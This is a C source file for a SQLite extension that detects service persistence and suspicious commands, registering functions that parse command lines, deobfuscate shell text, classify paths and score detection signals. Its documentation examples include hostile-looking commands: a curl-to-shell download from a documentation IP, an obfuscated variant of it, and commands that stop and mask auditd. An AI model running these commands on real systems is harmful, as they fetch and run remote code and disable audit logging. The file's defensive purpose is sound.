/* functions.c -- SQL functions: pure, the same for the same arguments, NULL for NULL.
 *
 *     SELECT service_command('sudo systemctl enable --now x.service');
 */
#include "functions.h"

#include <cjson/cJSON.h>
#include <errno.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>

#include "event_functions.h"
#include "formats/command/command_files.h"
#include "formats/command/command_line.h"
#include "formats/command/exec_path.h"
#include "formats/command/shell_canonical.h"
#include "formats/log/auth_text.h"
#include "formats/text/bytes_hash.h"
#include "formats/text/json_tree.h"
#include "formats/text/name_measure.h"
#include "formats/text/regexp.h"
#include "formats/text/text_measure.h"
#include "osquery_functions.h"
#include "svcql.h"
#include "table.h"

SQLITE_EXTENSION_INIT3

const char *svcql_version(void)
{
    return SVCQL_VERSION;
}

static void version(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    (void)argc, (void)argv;
    sqlite3_result_text(out, svcql_version(), -1, SQLITE_STATIC);
}

struct argument {
    const char *text; /* NULL: SQL NULL, or out of memory */
    size_t      size;
};

static struct argument argument(sqlite3_value *value)
{
    const char *text = (const char *)sqlite3_value_text(value);

    return (struct argument){text, text ? (size_t)sqlite3_value_bytes(value) : 0};
}

/* The buffer's text as the result; frees it. */
static void result_buffer(sqlite3_context *out, struct buffer *b)
{
    if (buffer_text(b))
        sqlite3_result_text64(out, b->data, b->size, SQLITE_TRANSIENT, SQLITE_UTF8);
    else
        sqlite3_result_error_nomem(out);
    buffer_free(b);
}

static void name_bits(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument name = argument(argv[0]);

    (void)argc;
    if (name.text)
        sqlite3_result_double(out, name_randomness(name.text, name.size));
}

static void look_alike(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument a = argument(argv[0]), b = argument(argv[1]);

    (void)argc;
    if (a.text && b.text)
        sqlite3_result_int(out, names_look_alike(a.text, a.size, b.text, b.size));
}

static void utc_datetime(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    (void)argc;
    if (sqlite3_value_numeric_type(argv[0]) != SQLITE_TEXT &&
        sqlite3_value_type(argv[0]) != SQLITE_NULL)
        tbl_result_datetime(out, sqlite3_value_double(argv[0]));
}

static void service_command(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument line = argument(argv[0]);
    struct buffer   json = {0};
    int             n = line.text ? command_line_services(line.text, line.size, &json) : 0;

    (void)argc;
    if (n > 0)
        result_buffer(out, &json);
    else if (n < 0)
        sqlite3_result_error_nomem(out);
    buffer_free(&json);
}

static void file_writes(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument line = argument(argv[0]);
    struct buffer   json = {0};
    int             n = line.text ? command_line_files(line.text, line.size, &json) : 0;

    (void)argc;
    if (n > 0)
        result_buffer(out, &json);
    else if (n < 0)
        sqlite3_result_error_nomem(out);
    buffer_free(&json);
}

static void canonical(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument text = argument(argv[0]);
    struct buffer   lines = {0};

    (void)argc;
    if (!text.text)
        return;
    if (shell_canonical(text.text, text.size, &lines) < 0)
        lines.failed = true;
    result_buffer(out, &lines);
}

#define RUNS_ARGC_MAX 4096

/* The words of a JSON array, into memory of the arena: how many, -EBADMSG where the text is not one, or
 * -ENOMEM. */
static int json_words(struct arena *memory, const char *text, const char *const **ret)
{
    cJSON      *array, *item;
    const char *end;
    int         n = 0, r = json_tree_end(text, strlen(text), &end, &array);

    if (r < 0)
        return r;
    bool         whole = cJSON_IsArray(array) && !*(end + strspn(end, " \t\r\n"));
    const char **words = whole ? arena_alloc(memory, RUNS_ARGC_MAX * sizeof *words) : NULL;
    if (words)
        cJSON_ArrayForEach(item, array)
        {
            if (n < RUNS_ARGC_MAX && cJSON_IsString(item))
                words[n++] = arena_strndup(memory, item->valuestring, strlen(item->valuestring));
        }
    cJSON_Delete(array);
    *ret = words;
    return memory->failed ? -ENOMEM : whole ? n : -EBADMSG;
}

/* What a command runs. A text is the input of a shell, so the shell itself is not part of it. */
static void runs(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument        command = argument(argv[0]);
    struct arena           memory = {0};
    struct buffer          json = {0};
    struct command_reading reading = {0};
    const char            *shell[] = {"sh", "-c", command.text};
    const char *const     *words = NULL;
    int                    n = -EBADMSG;

    (void)argc;
    if (!command.text)
        return;
    if (*command.text == '[')
        n = json_words(&memory, command.text, &words);
    size_t first = n == -EBADMSG; /* "[ -x /opt/x ] && ..." is not an array */
    if (first) {
        words = shell;
        n = 3;
    }
    int r = n > 0 ? command_read(&(struct command_given){.argv = words, .argc = (size_t)n}, &memory,
                                 &reading)
                  : n;
    buffer_putc(&json, '[');
    for (size_t i = first; r == 0 && i < reading.n_runs; i++) {
        buffer_puts(&json, i > first ? "," : "");
        buffer_json(&json, reading.runs[i], strlen(reading.runs[i]));
    }
    buffer_putc(&json, ']');
    json.failed |= r < 0;
    result_buffer(out, &json);
    arena_free(&memory);
}

static void regexp_error(sqlite3_context *out, const char *pattern, const char *why)
{
    char *message = sqlite3_mprintf("regexp: %s: %.200s", why, pattern);

    if (message)
        sqlite3_result_error(out, message, -1);
    else
        sqlite3_result_error_nomem(out);
    sqlite3_free(message);
}

/* Patterns that come from a table differ from row to row, so SQLite's cache for a constant argument
 * is not enough: compiled patterns stay with the connection, one in each slot. */
#define PATTERN_SLOTS 256

struct patterns {
    struct {
        char          *text;
        size_t         size;
        struct regexp *regexp;
    } slots[PATTERN_SLOTS];
};

static void empty_slot(struct patterns *patterns, size_t i)
{
    sqlite3_free(patterns->slots[i].text);
    regexp_free(patterns->slots[i].regexp);
    patterns->slots[i].text = NULL;
    patterns->slots[i].regexp = NULL;
}

static void free_patterns(void *data)
{
    for (size_t i = 0; data && i < PATTERN_SLOTS; i++)
        empty_slot(data, i);
    sqlite3_free(data);
}

static size_t slot_of(struct argument pattern)
{
    return (bytes_hash(pattern.text, pattern.size, 0) >> 32) % PATTERN_SLOTS;
}

/* The compiled pattern, the connection's; NULL, with the error set, where it is not valid. */
static struct regexp *compiled(sqlite3_context *out, struct argument pattern)
{
    struct patterns *patterns = sqlite3_user_data(out);
    size_t           slot = slot_of(pattern);
    const char      *why = NULL;

    if (patterns->slots[slot].text && patterns->slots[slot].size == pattern.size &&
        memcmp(patterns->slots[slot].text, pattern.text, pattern.size) == 0)
        return patterns->slots[slot].regexp;
    empty_slot(patterns, slot);
    int r = regexp_compile(pattern.text, pattern.size, &patterns->slots[slot].regexp, &why);
    if (r == 0)
        patterns->slots[slot].text = sqlite3_malloc64(pattern.size + 1);
    if (r == 0 && patterns->slots[slot].text) {
        memcpy(patterns->slots[slot].text, pattern.text, pattern.size);
        patterns->slots[slot].size = pattern.size;
        return patterns->slots[slot].regexp;
    }
    if (r < 0 && r != -ENOMEM)
        regexp_error(out, pattern.text, why);
    else
        sqlite3_result_error_nomem(out);
    empty_slot(patterns, slot);
    return NULL;
}

static void regexp(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument pattern = argument(argv[0]), text = argument(argv[1]);

    (void)argc;
    if (!pattern.text || !text.text)
        return;
    struct regexp *regexp = compiled(out, pattern);
    if (!regexp)
        return;
    int r = regexp_match(regexp, text.text, text.size);
    if (r == -ENOMEM)
        sqlite3_result_error_nomem(out);
    else if (r < 0)
        regexp_error(out, pattern.text, "takes too long");
    else
        sqlite3_result_int(out, r);
}

/* The lines of a text as a JSON array, for json_each(). */
static void lines(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument text = argument(argv[0]);
    struct buffer   json = {0};

    (void)argc;
    if (!text.text)
        return;
    buffer_putc(&json, '[');
    for (size_t at = 0; at < text.size;) {
        const char *newline = memchr(text.text + at, '\n', text.size - at);
        size_t      end = newline ? (size_t)(newline - text.text) : text.size;
        if (at)
            buffer_putc(&json, ',');
        buffer_json(&json, text.text + at, end - at);
        at = end + 1;
    }
    buffer_putc(&json, ']');
    result_buffer(out, &json);
}

static void entropy(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument text = argument(argv[0]);

    (void)argc;
    if (text.text)
        sqlite3_result_double(out, text_entropy(text.text, text.size));
}

static void edit_distance(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument a = argument(argv[0]), b = argument(argv[1]);
    int             distance = -1;

    (void)argc;
    if (a.text && b.text)
        distance = text_edit_distance(a.text, a.size, b.text, b.size);
    if (distance >= 0)
        sqlite3_result_int(out, distance);
}

static void path_name(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    const char *path = (const char *)sqlite3_value_text(argv[0]);
    const char *name = path;

    (void)argc;
    for (const char *at = path; at && *at; at++)
        if (*at == '/' || *at == '\\')
            name = at + 1;
    sqlite3_result_text(out, name, -1, SQLITE_TRANSIENT); /* NULL of NULL */
}

static void path_of_command(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument command = argument(argv[0]);
    struct buffer   path = {0};

    (void)argc;
    if (command.text && exec_path(command.text, command.size, &path))
        result_buffer(out, &path);
    buffer_free(&path);
}

static void put_member(struct buffer *json, const char *name, const struct auth_span *span)
{
    buffer_printf(json, ",\"%s\":", name);
    if (span->text)
        buffer_json(json, span->text, span->size);
    else
        buffer_puts(json, "null");
}

static void auth_message(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument   program = argument(argv[0]), message = argument(argv[1]);
    struct buffer     json = {0};
    struct auth_event event;

    (void)argc;
    if (!program.text || !message.text)
        return;
    auth_message_parse(&(struct auth_span){program.text, program.size},
                       &(struct auth_span){message.text, message.size}, &event);
    if (event.kind == AUTH_OTHER)
        return;
    buffer_printf(&json, "{\"kind\":\"%s\",\"success\":%s", auth_kind_name(event.kind),
                  event.success < 0 ? "null"
                  : event.success   ? "1"
                                    : "0");
    put_member(&json, "user", &event.user);
    put_member(&json, "target_user", &event.target);
    put_member(&json, "tty", &event.tty);
    put_member(&json, "cwd", &event.cwd);
    put_member(&json, "command", &event.command);
    put_member(&json, "remote_host", &event.remote);
    put_member(&json, "action", &event.action);
    put_member(&json, "reason", &event.reason);
    buffer_putc(&json, '}');
    result_buffer(out, &json);
}

static void printable(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument text = argument(argv[0]);
    struct buffer   shown = {0};

    (void)argc;
    if (!text.text)
        return;
    buffer_printable(&shown, text.text, text.size);
    result_buffer(out, &shown);
}

static void trust(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument path = argument(argv[0]);
    const char     *place = path.text ? path_trust(path.text, path.size) : NULL;

    (void)argc;
    if (place)
        sqlite3_result_text(out, place, -1, SQLITE_STATIC);
}

/* Add the kind of place of a path to ",system,temp,", once. */
static void add_place(struct buffer *places, const char *path, size_t size)
{
    const char *place = path ? path_trust(path, size) : NULL;
    char        listed[32];

    if (!place)
        return;
    snprintf(listed, sizeof listed, ",%s,", place);
    if (!places->size)
        buffer_puts(places, listed);
    else if (buffer_text(places) && !strstr(places->data, listed))
        buffer_puts(places, listed + 1);
}

/* The first argument is JSON: an array of paths, or an object whose keys are paths. */
static void places(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument json = argc ? argument(argv[0]) : (struct argument){0};
    struct buffer   found = {0};
    cJSON          *list = NULL;
    const cJSON    *item;

    if (json.text)
        found.failed = json_tree(json.text, json.size, &list) == -ENOMEM;
    cJSON_ArrayForEach(item, list)
    {
        const char *path = cJSON_IsObject(list) ? item->string : cJSON_GetStringValue(item);
        add_place(&found, path, path ? strlen(path) : 0);
    }
    cJSON_Delete(list);
    for (int i = 1; i < argc; i++) {
        struct argument path = argument(argv[i]);
        add_place(&found, path.text, path.size);
    }
    if (found.size || found.failed)
        result_buffer(out, &found);
}

/* Not declared deterministic, so that SQLite does not push a term on it down into a view, where the
 * argument would be computed again at each use.
 */
static void once(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    (void)argc;
    sqlite3_result_value(out, argv[0]);
}

/* A chain of || copies what it has at each step, also where nothing is added. */
static void joined(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct buffer text = {0};

    for (int i = 0; i < argc; i++) {
        struct argument part = argument(argv[i]);
        buffer_put(&text, part.text, part.size);
        text.failed |= !part.text && sqlite3_value_type(argv[i]) != SQLITE_NULL;
    }
    if (text.size || text.failed)
        result_buffer(out, &text);
    else
        sqlite3_result_text(out, "", 0, SQLITE_STATIC);
}

static void usual_library(sqlite3_context *out, int argc, sqlite3_value **argv)
{
    struct argument path = argument(argv[0]);
    int             usual = path.text ? path_usual_library(path.text, path.size) : -1;

    (void)argc;
    if (usual >= 0)
        sqlite3_result_int(out, usual);
}

static const struct {
    const char *name;
    int         args;
    void (*call)(sqlite3_context *, int, sqlite3_value **);
} functions[] = {
    {"svcql_version", 0, version},
    {"name_randomness", 1, name_bits},
    {"look_alike", 2, look_alike},
    {"utc_datetime", 1, utc_datetime},
    {"service_command", 1, service_command},
    {"file_writes", 1, file_writes},
    {"shell_canonical", 1, canonical},
    {"command_runs", 1, runs},
    {"text_lines", 1, lines},
    {"entropy", 1, entropy},
    {"edit_distance", 2, edit_distance},
    {"exec_path", 1, path_of_command},
    {"joined", -1, joined},
    {"path_name", 1, path_name},
    {"path_trust", 1, trust},
    {"path_places", -1, places},
    {"usual_library", 1, usual_library},
    {"printable", 1, printable},
    {"auth_message", 2, auth_message},
    {"event_message", 1, event_message_function},
    {"event_access", 2, event_access_function},
    {"event_number", 1, event_number_function},
    {"logon_type", 1, logon_type_function},
    {"concat", -1, concat_function},
    {"concat_ws", -1, concat_ws_function},
    {"split", 3, split_function},
    {"regex_match", 3, regex_match_function},
};

/* clang-format off */
const struct function_doc function_docs[] = {
    {"svcql_version()",
     "The version of the extension",
     "SELECT svcql_version();"},
    {"service_command(cmdline)",
     "What a command line does to services, as a JSON array of {tool, verb, targets, options, "
     "remote, runtime, via, obfuscated}, also within sudo, ssh, sh -c, cmd /c, powershell "
     "-EncodedCommand and similar wrappers; NULL where it does nothing to services",
     "SELECT value ->> 'verb', value ->> 'targets' FROM json_each(service_command('sudo sh -c "
     "\"systemctl stop auditd; systemctl mask auditd\"'));"},
    {"file_writes(cmdline)",
     "The files in folders of units, start scripts and property lists that a command line writes, moves "
     "or removes, as a JSON array of {action, path, program, from, content}; NULL where there is none",
     "SELECT value ->> 'path', value ->> 'content' FROM json_each(file_writes('echo x | sudo tee "
     "/etc/systemd/system/x.service'));"},
    {"shell_canonical(text)",
     "A shell's text as it would run, in lines: quotes and escapes removed, pieces joined, "
     "variables and outputs expanded where the text itself defines them; the input of sh -c, env "
     "-S, eval and of a pipe from base64 -d is on separate lines",
     "SELECT shell_canonical('X=url; c\"\"$X -s http://192.0.2.1/p | s\\h');"},
    {"command_runs(command)",
     "Every program and script that a command names to run, as a JSON array; the command is a "
     "shell's text or a JSON array of words",
     "SELECT command_runs('nice env -S \"python3 /tmp/x.py\"');"},
    {"regexp(pattern, text)",
     "Whether the pattern matches anywhere in the text, as does text REGEXP pattern: classes, "
     "\\d \\s \\w \\b, {m,n}, alternation, anchors and (?i), in time bounded by pattern times "
     "text; replaces the sqlite3 shell's own, so that rules have the same meaning everywhere",
     "SELECT 'C:\\Users\\x\\a.EXE' REGEXP '(?i)\\\\users\\\\[^\\\\]+\\\\.*\\.exe$';"},
    {"concat(value, ...)",
     "The values joined, a NULL as nothing; osquery's function",
     "SELECT concat('a', NULL, 1);"},
    {"concat_ws(separator, value, ...)",
     "The values joined by a separator, without the NULLs; osquery's function",
     "SELECT concat_ws(', ', 'a', NULL, 'b');"},
    {"split(text, characters, n)",
     "The n-th part of a text, from 0, between any of the characters, empty parts left out; osquery's "
     "function",
     "SELECT split('/usr/bin/env', '/', 1);"},
    {"regex_match(text, pattern, group)",
     "What a group of a regular expression matches, 0 for all of it; NULL where nothing does; osquery's "
     "function",
     "SELECT regex_match('/usr/bin/env', '.*/(.*)', 1);"},
    {"once(value)",
     "The value itself, computed once: a term on it is not pushed down into a view",
     "SELECT once(1);"},
    {"scope_since(seconds)",
     "The time from which a query wants findings, less a margin; minus infinity where it wants all"
     " times, and outside of findings",
     "SELECT scope_since(3600);"},
    {"scope_until(seconds)",
     "The time up to which a query wants findings, and a margin; infinity as for scope_since()",
     "SELECT scope_until(60);"},
    {"scope_action(actions)",
     "Whether a query of service_events asks for one of the actions, which commas separate: what can have no other "
     "is not read",
     "SELECT scope_action('started,stopped');"},
    {"scoped()",
     "Whether a query wants findings of some time only",
     "SELECT scoped();"},
    {"own_signals(shape, column, ...)",
     "The user's own detections that fire for a row of a shape, as ,\"name\",\"name\"; the views "
     "SHAPE_signals call it",
     "SELECT own_signals('unit');"},
    {"pattern_signals(platform, text)",
     "The signals whose exec_patterns, of unix or windows, match a text, as a JSON array",
     "SELECT pattern_signals('unix', '/bin/sh -c \"curl http://192.0.2.1/x | sh\"');"},
    {"listed(list, text, platform)",
     "Whether a pattern of service_accounts, or of monitored_paths for a platform, fits a text",
     "SELECT listed('service_accounts', 'www-data'), listed('monitored_paths', '/etc/rc.local', "
     "'linux');"},
    {"attack_id(technique, version)",
     "A technique of ATT&CK v19.1 by its id in another version; without one in that of the setting "
     "attack_version",
     "SELECT attack_id('T1685'), attack_id('T1685', '18.1');"},
    {"signal_severity(fired)",
     "The grade of a JSON array of signals, by the tables signals and severities",
     "SELECT signal_severity('[\"runs_from_temp\",\"inline_shell\"]');"},
    {"signal_reasons(fired)",
     "Why each signal of a JSON array matters, the greatest weight first",
     "SELECT signal_reasons('[\"runs_from_temp\",\"inline_shell\"]');"},
    {"signal_names(fired)",
     "The names in a JSON array of signals, the greatest weight first, separated by commas",
     "SELECT signal_names('[\"inline_shell\",\"runs_from_temp\"]');"},
    {"signal_techniques(fired)",
     "The ATT&CK techniques of a JSON array of signals, as a JSON array",
     "SELECT signal_techniques('[\"runs_from_temp\",\"inline_shell\"]');"},
    {"finding_techniques(fired, techniques)",
     "Techniques that are separated by commas, and those of a JSON array of signals, each once",
     "SELECT finding_techniques('[\"runs_from_temp\",\"inline_shell\"]', 'T1543.002');"},
    {"joined(text, ...)",
     "The texts one after another, without those that are NULL: faster than || where most are",
     "SELECT joined('a', NULL, 'b');"},
    {"text_lines(text)",
     "The lines of a text as a JSON array",
     "SELECT value FROM json_each(text_lines('a' || char(10) || 'b'));"},
    {"auth_message(program, message)",
     "What sudo, su, pkexec, doas, sshd and similar programs write in a line of a log, as a JSON "
     "object of {kind, success, user, target_user, tty, cwd, command, remote_host, action, "
     "reason}; NULL for another program's",
     "SELECT auth_message('sudo', 'bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/id');"},
    {"entropy(text)",
     "Shannon entropy of the text's bytes in bits, 0 to 8: random names are above 3",
     "SELECT entropy('xkqjzvbw'), entropy('sshd');"},
    {"source_state(tables, location, host, after)",
     "Whether the first of the tables, separated by commas, has read a host's sources whose "
     "location is LIKE the pattern, and none of the tables has a problem with one: read, absent, "
     "or the problems: absent, denied, damaged, unknown, incomplete. after is not read: pass a "
     "value of the query that reads the tables, so that they are read first",
     "SELECT source_state('sudoers', '%', host, count(*)) FROM sudoers GROUP BY host;"},
    {"edit_distance(a, b)",
     "Insertions, deletions, substitutions and swaps of neighbours between two texts; NULL "
     "where one is longer than 256 bytes",
     "SELECT edit_distance('systemd-resolved', 'systemd-resolvd');"},
    {"exec_path(command)",
     "The path of the program in a command line, a systemd Exec= value or a Windows ImagePath, "
     "quoted or not; NULL where there is none",
     "SELECT exec_path('@-/usr/bin/bash -c id'), exec_path('C:\\Program Files\\a b\\c.exe -k "
     "x');"},
    {"path_name(path)",
     "The last part of a path, after its last / or \\",
     "SELECT path_name('/usr/bin/sh'), path_name('C:\\Windows\\explorer.exe');"},
    {"path_trust(path)",
     "The kind of place that a path is in: system, vendor, local, home, public, temp, shm, "
     "hidden, unc or device; NULL where the path is not absolute",
     "SELECT path_trust('/dev/shm/x'), path_trust('C:\\Windows\\System32\\svchost.exe');"},
    {"path_places(json, path, ...)",
     "The kinds of place, as path_trust() names them, of the paths in a JSON array or of the keys of a "
     "JSON object, and of further paths, as ,system,temp,; NULL where none is absolute",
     "SELECT path_places(command_runs('sh /tmp/x'), '/usr/bin/sh');"},
    {"usual_library(path)",
     "1 where the path is in a folder in which a system and what is installed on it keep the "
     "libraries and drivers of services: System32, Program Files; 0 elsewhere; NULL where the "
     "path is not absolute",
     "SELECT usual_library('%SystemRoot%\\System32\\x.dll'), usual_library('C:\\Windows\\x.dll');"},
    {"printable(text)",
     "The text with each control, bidirectional or invisible character, and each byte that is not "
     "UTF-8, written as \\x1b or \\u202e: hostile evidence cannot act on a terminal",
     "SELECT printable('a' || char(27) || '[31m' || char(155) || 'b');"},
    {"event_message(text)",
     "A text of a Windows event with its message identifiers, such as %%1905, translated into "
     "words",
     "SELECT event_message('%%1905');"},
    {"event_access(object_type, mask)",
     "The rights in an access mask, of a File, a Key, a SERVICE OBJECT or an SC_MANAGER OBJECT",
     "SELECT event_access('SERVICE OBJECT', '0x12');"},
    {"event_number(text)",
     "The integer that a value of a Windows event spells, in decimal or as 0x1f; NULL where it "
     "is none",
     "SELECT event_number('0x3e7');"},
    {"name_randomness(name)",
     "Evidence in bits that a name's letters were drawn at random, by letter statistics of real "
     "names: above 10 for randomly generated names",
     "SELECT name_randomness('xkqzvwpj'), name_randomness('lightdm');"},
    {"look_alike(a, b)",
     "Whether one name is easily mistaken for the other: letters that look alike, doubled ones, "
     "hyphens, case; in names of six letters or more, one letter that is changed, missing, added "
     "or swapped",
     "SELECT look_alike('mysqI', 'mysql'), look_alike('cronn', 'cron'), look_alike('sslh', 'ssh');"},
    {"utc_datetime(seconds)",
     "Seconds since the epoch as a datetime in UTC, in the form of SQLite's datetime() with "
     "microseconds, so that the two compare",
     "SELECT utc_datetime(1764583200.25) > datetime('2025-12-01');"},
    {"logon_type(number)",
     "A logon type of Windows in words",
     "SELECT logon_type(3);"},
    {0},
};
/* clang-format on */

static const int pure = SQLITE_UTF8 | SQLITE_DETERMINISTIC | SQLITE_INNOCUOUS;

static int register_regexp(sqlite3 *db)
{
    struct patterns *patterns = sqlite3_malloc64(sizeof *patterns);

    if (!patterns)
        return SQLITE_NOMEM;
    memset(patterns, 0, sizeof *patterns);
    return sqlite3_create_function_v2(db, "regexp", 2, pure, patterns, regexp, NULL, NULL,
                                      free_patterns);
}

int functions_register_pure(sqlite3 *db)
{
    int rc = SQLITE_OK;

    for (size_t i = 0; rc == SQLITE_OK && i < sizeof functions / sizeof functions[0]; i++)
        rc = sqlite3_create_function_v2(db, functions[i].name, functions[i].args, pure, NULL,
                                        functions[i].call, NULL, NULL, NULL);
    return rc == SQLITE_OK ? register_regexp(db) : rc;
}

int functions_register(sqlite3 *db)
{
    int rc = functions_register_pure(db);

    if (rc != SQLITE_OK)
        return rc;
    return sqlite3_create_function_v2(db, "once", 1, SQLITE_UTF8 | SQLITE_INNOCUOUS, NULL, once,
                                      NULL, NULL, NULL);
}
